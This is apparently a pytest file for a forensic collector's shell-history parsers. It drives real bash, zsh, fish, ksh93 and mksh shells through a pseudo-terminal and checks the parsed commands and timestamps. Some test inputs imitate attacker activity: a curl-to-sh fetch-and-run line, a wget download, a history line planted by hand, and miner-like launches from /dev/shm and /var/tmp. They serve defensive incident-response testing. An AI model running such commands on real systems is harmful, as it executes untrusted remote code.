"""History parsers against the shells that write the files: real bash, zsh, fish, ksh93 and mksh are
driven through a pseudo-terminal as a user would type, write their history file themselves, and the
parsed records must give back exactly what was typed, with the time it was typed. bash's own reading
of its file (`history -r`) is the reference where bash rewrites what was typed (cmdhist without lithist)."""

from __future__ import annotations

import os
import pty
import re
import select
import shutil
import subprocess
import time
from pathlib import Path

import pytest
from conftest import need

from collectors.files.histories import PARSERS

# the parser each file gets in specs/artifacts/files.toml
KIND = {".bash_history": "bash", ".zsh_history": "zsh", "fish_history": "fish", ".sh_history": "sh"}


def _shell(name: str) -> str:
    path = shutil.which(name)
    need(path is not None, f"{name} is not installed (tests/run.sh installs it)")
    return path


def _type(argv: list[str], lines: list[str], env: dict[str, str], cwd: Path) -> tuple[float, float]:
    """Run an interactive shell on a pty, type each line, wait for it to exit; (start, end) times."""
    started = time.time()
    pid, fd = pty.fork()
    if pid == 0:  # the child: the shell, with the pty as its terminal
        os.chdir(cwd)
        os.execve(argv[0], argv, env)
    output = bytearray()

    def drain(seconds: float) -> bool:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            ready, _, _ = select.select([fd], [], [], 0.05)
            if ready:
                try:
                    chunk = os.read(fd, 65536)
                except OSError:
                    return False
                if not chunk:
                    return False
                output.extend(chunk)
        return True

    try:
        drain(0.8)
        for line in lines:
            os.write(fd, line.encode() + b"\n")
            drain(0.25)
        deadline = time.monotonic() + 20
        while drain(0.2) and time.monotonic() < deadline:
            pass
    finally:
        _, status = os.waitpid(pid, 0)
        os.close(fd)
    assert os.WIFEXITED(status), output[-2000:]
    return started, time.time()


def _parse(path: Path) -> list[dict]:
    return list(PARSERS[KIND[path.name]](path.read_bytes()))


def _env(home: Path, **extra: str) -> dict[str, str]:
    return {"HOME": str(home), "PATH": "/usr/bin:/bin", "TERM": "dumb", "LANG": "C.UTF-8", **extra}


def _in_time(records: list[dict], started: float, ended: float) -> None:
    times = [r["timestamp"] for r in records]
    assert all(t is not None and int(started) <= t <= ended + 1 for t in times), (times, started, ended)
    assert times == sorted(times)


def _bash_reads(path: Path) -> list[tuple[int | None, str]]:
    """bash's own reading of a history file: (time, command) of each entry, as `history` lists it."""
    script = ('HISTFILE=/dev/null; HISTTIMEFORMAT=$\'\\x01%s\\x02\'; set -o history; history -c; '
              'history -r "$1"; history')
    out = subprocess.run([_shell("bash"), "--norc", "--noprofile", "-c", script, "bash", str(path)],
                         capture_output=True, check=True).stdout.decode()
    entries = re.split(r"(?:^|\n) *\d+\*? +\x01", out.rstrip("\n"))[1:]
    return [(int(e.split("\x02", 1)[0]) or None, e.split("\x02", 1)[1]) for e in entries]


BASH_TYPED = [
    "shopt -s lithist cmdhist",
    "echo one",
    "for i in 1 2; do\n  echo \"$i\"\ndone",
    "printf '%s\\n' 'first line\n\nthird line'",
    "curl -s http://192.0.2.1/x.sh |\n  sh",
    "cat <<EOF >/dev/null\nbody with #1700000000 in it\nEOF",
    "echo → 日本",
]


def test_bash_multiline_entries_with_timestamps(tmp_path):
    bash = _shell("bash")
    hist = tmp_path / ".bash_history"
    lines = [ln for cmd in BASH_TYPED for ln in cmd.split("\n")] + ["exit"]
    started, ended = _type([bash, "--norc", "--noprofile", "-i"], lines,
                           _env(tmp_path, HISTFILE=str(hist), HISTTIMEFORMAT="%F %T ", PS1="$ ", PS2="> "),
                           tmp_path)
    records = _parse(hist)
    assert [r["command"] for r in records] == BASH_TYPED + ["exit"]
    _in_time(records, started, ended)
    assert records[2]["lines"] == 3 and records[2]["line"] == 6  # the entry's first line in the file
    # bash reading its own file drops the empty line inside an entry (histfile.c skips empty lines);
    # the file has it, and so do we: apart from that, the same entries with the same times
    assert [(r["timestamp"], r["command"].replace("\n\n", "\n")) for r in records] == _bash_reads(hist)


def test_bash_cmdhist_without_lithist_and_a_desynchronised_file(tmp_path):
    """Without lithist bash joins a compound command with `;` but keeps a quoted newline. A session
    without HISTTIMEFORMAT then appends entries with no #<epoch> line: each stays an entry of its own,
    with no time (bash itself would read them into the entry before and give them its time), and the
    timed session after it still comes out right."""
    bash = _shell("bash")
    hist = tmp_path / ".bash_history"
    common = {"HISTFILE": str(hist), "PS1": "$ ", "PS2": "> "}
    s1 = _type([bash, "--norc", "--noprofile", "-i"],
               ["shopt -s cmdhist histappend", "for i in 1 2; do", "echo $i", "done", "echo 'a", "b'", "exit"],
               _env(tmp_path, HISTTIMEFORMAT="%s ", **common), tmp_path)
    first = _bash_reads(hist)
    _type([bash, "--norc", "--noprofile", "-i"], ["shopt -s histappend", "echo untimed", "exit"],
          _env(tmp_path, **common), tmp_path)
    s3 = _type([bash, "--norc", "--noprofile", "-i"],
               ["shopt -s histappend", "echo 'late", "quoted' | tr a-z A-Z |", "cat", "id", "exit"],
               _env(tmp_path, HISTTIMEFORMAT="%s ", **common), tmp_path)
    assert b"#" not in hist.read_bytes().split(b"\nexit\n")[1]  # the untimed session wrote no #<epoch> lines
    records = _parse(hist)
    commands = [r["command"] for r in records]
    assert commands == ["shopt -s cmdhist histappend", "for i in 1 2; do echo $i; done", "echo 'a\nb'", "exit",
                        "shopt -s histappend", "echo untimed", "exit",
                        "shopt -s histappend", "echo 'late\nquoted' | tr a-z A-Z | cat", "id", "exit"]
    assert [(r["timestamp"], r["command"]) for r in records[:4]] == first  # as bash reads the first session
    _in_time(records[:4], *s1)
    assert all(r["timestamp"] is None and r["untimed"] for r in records[4:7])
    _in_time(records[7:], *s3)
    assert not any(r.get("untimed") for r in records[:4] + records[7:])


def test_bash_without_timestamps_is_one_line_each(tmp_path):
    bash = _shell("bash")
    hist = tmp_path / ".bash_history"
    _type([bash, "--norc", "--noprofile", "-i"], ["shopt -s lithist", "for i in 1 2; do", "echo $i", "done", "exit"],
          _env(tmp_path, HISTFILE=str(hist), PS1="$ ", PS2="> "), tmp_path)
    records = _parse(hist)
    assert [r["command"] for r in records] == ["shopt -s lithist", "for i in 1 2; do", "echo $i", "done", "exit"]
    assert all(r["timestamp"] is None for r in records)


def test_zsh_extended_history(tmp_path):
    zsh = _shell("zsh")
    hist = tmp_path / ".zsh_history"
    (tmp_path / ".zshrc").write_text(f"HISTFILE={hist}\nSAVEHIST=1000\nHISTSIZE=1000\nsetopt EXTENDED_HISTORY\n"
                                     "PS1='$ '\n")
    typed = ["echo one", "for i in 1 2; do\n  echo $i\ndone", "echo 'a\nb'",
             "echo → 日本 ƒ",  # UTF-8 bytes 0x83-0x9f are metafied in the file
             "echo back\\\\", ": not a timestamp", "sleep 1"]
    lines = [ln for cmd in typed for ln in cmd.split("\n")] + ["exit"]
    started, ended = _type([zsh, "-i"], lines, _env(tmp_path), tmp_path)
    assert b"\x83" in hist.read_bytes()  # the file holds metafied bytes
    records = _parse(hist)
    assert [r["command"] for r in records] == typed + ["exit"]
    _in_time(records, started, ended)
    assert records[typed.index("sleep 1")]["elapsed_s"] >= 1


def test_fish_history(tmp_path):
    fish = _shell("fish")
    (tmp_path / ".local/share/fish/generated_completions").mkdir(parents=True)  # no man-page scan
    typed = ["echo one", "echo 'a\nb'", "for i in 1 2\necho $i\nend", "echo back\\\\slash → 日本", "ls /tmp"]
    lines = [ln for cmd in typed for ln in cmd.split("\n")] + ["exit"]
    started, ended = _type([fish, "-i"], lines, _env(tmp_path), tmp_path)
    records = _parse(tmp_path / ".local/share/fish/fish_history")
    assert [r["command"] for r in records] == typed + ["exit"]
    _in_time(records, started, ended)
    assert records[4]["paths"] == ["/tmp"]


@pytest.mark.parametrize("shell", ["ksh93", "mksh"])
def test_ksh_binary_history(tmp_path, shell):
    """ksh93 and mksh keep ~/.sh_history in binary formats of their own (no times)."""
    path = _shell(shell)
    hist = tmp_path / ".sh_history"
    typed = ["echo one", "echo 'a\nb'", "for i in 1 2; do\necho $i\ndone", "echo back\\\\slash → 日本"]
    lines = [ln for cmd in typed for ln in cmd.split("\n")] + ["exit"]
    _type([path, "-i"], lines, _env(tmp_path, HISTFILE=str(hist), ENV="/dev/null", PS1="$ "), tmp_path)
    records = _parse(hist)
    assert [r["command"] for r in records] == typed + ["exit"]


def test_bash_lines_added_by_hand_keep_the_rest_right():
    """A file bash wrote with timestamps, then edited: a line appended with `echo ... >>` and an entry's
    #<epoch> line deleted. Each added line is its own untimed entry; unfinished commands still span lines."""
    data = (b"#1700000000\ncase $1 in\n  a) echo a;;\nesac\n"
            b"echo planted >> ~/.bash_history\n"  # no #<epoch>: added by hand
            b"#1700000010\ncat <<-END | sh\n\tid\n\tEND\n"
            b"wget http://192.0.2.9/x\n"  # an entry whose #<epoch> line was deleted
            b"#1700000020\nexit\n")
    records = list(PARSERS["bash"](data))
    assert [(r["timestamp"], r["command"]) for r in records] == [
        (1700000000, "case $1 in\n  a) echo a;;\nesac"), (None, "echo planted >> ~/.bash_history"),
        (1700000010, "cat <<-END | sh\n\tid\n\tEND"), (None, "wget http://192.0.2.9/x"), (1700000020, "exit")]


def test_collector_reads_a_ksh93_history_under_root(tmp_path):
    """Through the collector (evidence reader, homes from passwd): ksh93's binary file is parsed, not
    reported as binary data."""
    from collectors.base import Context, Problem, Record
    from collectors.files import histories

    ksh = _shell("ksh93")
    root = tmp_path / "root"
    home = root / "home/dave"
    home.mkdir(parents=True)
    (root / "etc").mkdir()
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/bash\ndave:x:1001:1001::/home/dave:/bin/ksh\n")
    _type([ksh, "-i"], ["echo 'two", "lines'", "exit"],
          _env(home, HISTFILE=str(home / ".sh_history"), ENV="/dev/null", PS1="$ "), home)
    ctx = Context(root=str(root), live=False, options={"files": [[".sh_history", "sh"]]})
    items = list(histories.collect(ctx))
    records = [i.data for i in items if isinstance(i, Record) and i.stream == "histories"]
    assert [(r["user"], r["command"], r["path"]) for r in records] == [
        ("dave", "echo 'two\nlines'", "/home/dave/.sh_history"), ("dave", "exit", "/home/dave/.sh_history")]
    assert not [i for i in items if isinstance(i, Problem) and i.level != "info"], items


def test_paths_a_command_runs_are_recorded_with_cd_followed(tmp_path):
    """Issue 20: `executed` names the files a shell command runs by path, so a rule can join a file
    dropped in /tmp or /dev/shm with the command that ran it. bash itself writes the history (the
    commands typed fail harmlessly: none of the paths exist)."""
    from collectors.base import Context, Record
    from collectors.files import histories

    bash = _shell("bash")
    root = tmp_path / "root"
    home = root / "home/eve"
    home.mkdir(parents=True)
    (root / "etc").mkdir()
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/bash\neve:x:1001:1001::/home/eve:/bin/bash\n")
    typed = ["cd /dev/shm", "./.x-not-here -o pool.example:3333", "timeout 1 /var/tmp/.not-here-either",
             "ls /tmp/listed-not-run", "bash -c 'cd /tmp && ./also-not-here'", "cd", "./in-home-not-here",
             "exit"]
    _type([bash, "--norc", "--noprofile", "-i"], typed,
          _env(home, HISTFILE=str(home / ".bash_history"), HISTTIMEFORMAT="%F %T ", PS1="$ "), home)
    ctx = Context(root=str(root), live=False, options={"files": [[".bash_history", "bash"]]})
    records = [i.data for i in histories.collect(ctx) if isinstance(i, Record) and i.stream == "histories"]
    assert {r["command"]: r.get("executed") for r in records} == {
        "cd /dev/shm": None, "./.x-not-here -o pool.example:3333": ["/dev/shm/.x-not-here"],
        "timeout 1 /var/tmp/.not-here-either": ["/var/tmp/.not-here-either"], "ls /tmp/listed-not-run": None,
        "bash -c 'cd /tmp && ./also-not-here'": ["/tmp/also-not-here"], "cd": None,
        "./in-home-not-here": ["/home/eve/in-home-not-here"], "exit": None}
